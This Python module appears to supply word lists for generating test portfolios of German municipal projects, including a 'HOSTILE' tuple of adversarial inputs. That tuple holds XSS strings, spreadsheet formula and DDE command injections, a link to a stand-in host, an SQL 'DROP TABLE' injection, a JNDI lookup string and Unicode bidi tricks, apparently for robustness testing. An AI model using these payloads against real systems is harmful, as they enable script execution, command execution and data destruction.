"""The words that a generated portfolio is made of, pleasant and hostile ones."""

KINDS = (
    "Umbau", "Sanierung", "Neugestaltung", "Konzept für", "Leitfaden für", "Onlinedienst für", "Beratung rund um",
    "Probelauf für", "Erweiterung", "Wettbewerb für", "Umzug", "Öffnung", "Werkstatt für", "Satzung für",
)  # fmt: skip
THINGS = (
    "Schulweg", "Stadtpark", "Bürgerhaus", "Größeres Hallenbad", "Straßenfest", "Spielplatz", "Formulare",
    "Fußgängerzone", "Jugendtreff", "Wertstoffhof", "Bücherbus", "Radweg", "Sprachcafé", "Bescheide", "Rettungswache",
    "Übergang Kita–Schule", "Kulturtage", "Notunterkunft", "Gießpatenschaften", "Märkte",
)  # fmt: skip
PLACES = ("Nord", "Süd", "Mitte", "am See", "Weststadt", "Rünthe-Ost", "im Ortsteil Höhe", "2.0", "stadtweit")
HOSTILE = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)> Platz",
    '=HYPERLINK("http://boese.example";"Klick")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-1 Tage bis zum Fest",
    "**fett** [Link](javascript:alert(1)) `Code`",
    "# Überschrift | Tabelle | :smile: $x^2$",
    "שלום עולם \u202eecalp\u202c Platz",
    "مشروع الحي القديم",
    "Fest 🎉👨‍👩‍👧‍👦 für alle 🏳️‍🌈",
    "'; DROP TABLE projects; --",
    "{{ config }} ${jndi:ldap://x.example} {0} %s",
    "null",
    "2026-03-01",
    "no: yes # kein Kommentar",
    "Anführungen „deutsch“, \"gerade\", 'einfach' \\ Rückstrich",
    "Zweite\u2028Zeile\tmit Tabulator",
    "e\u0301gal" + "a\u0308" * 5,
    "Ein sehr langer Name " + "und noch etwas " * 11,
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenverordnung" * 2,
)
RATIONALES = (
    "Im Team besprochen, Notiz liegt in der Projektakte.",
    "Drei Gespräche mit Menschen aus der Zielgruppe; zwei Punkte sind danach geändert.",
    "Haushalt reicht bis Jahresende, danach ist es offen.",
    "Größere Änderung nötig: Öffnungszeiten, Wege, Preise.\nWird im Herbst erneut geprüft.",
    "Rückmeldung überwiegend gut 👍",
    "=1+1 ist kein Nachweis; siehe <Anlage 3> & Protokoll",
)
EVIDENCE = (
    "Protokoll vom Starttreffen",
    "Liste mit Datum, ohne Namen",
    "Auswertung der Rückmeldekarten",
    "Rollenblatt",
)
LINKS = ("https://www.musterstadt.example/vorhaben?id=7&ansicht=kurz#stand", "http://intranet.example/akte/12-0767")
NOTES = ("Dafür ist der Kreis zuständig.", "Entfällt, weil nur Daten umgestellt werden.", "Rechtlich nicht möglich.")
PARTNERS = ("Stadtsportverband", "Familienzentrum Nord", "Heimatverein „Zur Höhe“", "O'Brien & Söhne e. V.")
MEASURES = (
    "Drei Gespräche führen und das Ergebnis aufschreiben", "Liste der offenen Punkte veröffentlichen",
    "Zweites Amt zum Starttreffen einladen", "Wichtigsten Text gegenlesen lassen", "Rückblick ansetzen – 60 Minuten",
)  # fmt: skip
FUNCTIONS = ("Projektleitung", "Sachgebietsleitung", "Integrationsmanagement", "Geschäftsstelle")
REASONS = ("Mehr lässt das Gesetz nicht zu.", "Für ein kleines Vorhaben genügt das.")
TALK = "Vor der zweiten Abstimmung haben beide Seiten ihre Gründe genannt."
DISSENT = "Zwei Personen sehen es deutlich anders: Der Weg dorthin ist für sie nicht machbar."
